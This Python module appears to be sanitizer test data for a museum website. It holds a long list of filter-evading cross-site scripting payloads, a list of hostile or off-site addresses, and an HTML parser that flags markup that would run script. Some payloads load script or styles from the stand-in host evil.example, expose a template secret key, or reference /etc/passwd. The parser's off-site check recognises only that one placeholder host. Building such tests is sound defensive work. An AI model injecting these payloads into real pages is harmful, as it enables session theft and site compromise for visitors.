"""Texts that run as script where they are not escaped, each in a shape that fools some filter."""

from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<A HREF=javascript:alert(1)>x</A>",
    "<a onmouseover=alert(1)>x</a>",
    "<a linktype=\"page\" id=\"1\" onclick=\"alert(1)\">x</a>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${alert(1)}",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<img src=x onerror=alert(1)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "\u202e<script>alert(1)</script>",
    "‹script›alert(1)‹/script›",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip

ADDRESSES = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example\\",
    "https://museum.example@evil.example/",
    "ftp://evil.example/",
    "blob:https://museum.example/1",
    "view-source:javascript:alert(1)",
    "https:",
    "http://",
    "http://[",
    "mailto:",
    "relative/path",
    "",
]

RUNNING = {"base", "embed", "frame", "iframe", "math", "object", "style", "template"}
_LEADING = {"action", "data", "formaction", "href", "poster", "src", "xlink:href"}
_SCHEMES = ("javascript:", "data:text", "vbscript:", "file:", "blob:")
# What stands before the host in an address that leaves the site.
_OUTSIDE = {"//", "http://", "https://", "/\\", "\\\\", "https://museum.example@", "ftp://"}
_DATA_SCRIPTS = {"application/ld+json", "application/json", "importmap", "speculationrules"}


class Running(HTMLParser):
    """Collects what in a page would run, or lead to what runs."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        given = dict(attributes)
        if tag in RUNNING:
            self.found.append(f"<{tag}>")
        if tag == "script":
            source = given.get("src") or ""
            is_ours = source.startswith("/") and not source.startswith("//")
            if not is_ours and given.get("type") not in _DATA_SCRIPTS:
                self.found.append(f"<script {given}>")
        if tag == "meta" and (given.get("http-equiv") or "").lower() == "refresh":
            self.found.append("<meta refresh>")
        for name, value in attributes:
            squeezed = "".join((value or "").split()).lower().lstrip("\x00\x01")
            if name.startswith("on") or name in {"srcdoc", "style"}:
                self.found.append(f"<{tag} {name}>")
            if name in _LEADING and squeezed.startswith(_SCHEMES):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in _LEADING and squeezed.split("evil.example")[0] in _OUTSIDE:
                self.found.append(f"<{tag} {name}={value!r}>")
